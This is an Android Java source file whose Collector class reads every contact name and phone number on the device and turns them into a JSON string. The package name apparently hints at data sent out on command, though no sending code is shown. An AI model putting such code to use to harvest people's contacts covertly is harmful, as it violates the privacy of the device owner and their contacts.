package com.example.commandsends;

import android.content.Context;
import android.database.Cursor;
import android.provider.ContactsContract.CommonDataKinds.Phone;
import org.json.JSONArray;

/** Turns the book into JSON. */
final class Collector {
    private Collector() {}

    static String collect(Context context) {
        JSONArray rows = new JSONArray();
        String[] columns = {Phone.DISPLAY_NAME, Phone.NUMBER};
        Cursor cursor = context.getContentResolver().query(Phone.CONTENT_URI, columns, null, null, null);
        while (cursor.moveToNext()) {
            rows.put(new JSONArray().put(cursor.getString(0)).put(cursor.getString(1)));
        }
        cursor.close();
        return rows.toString();
    }
}
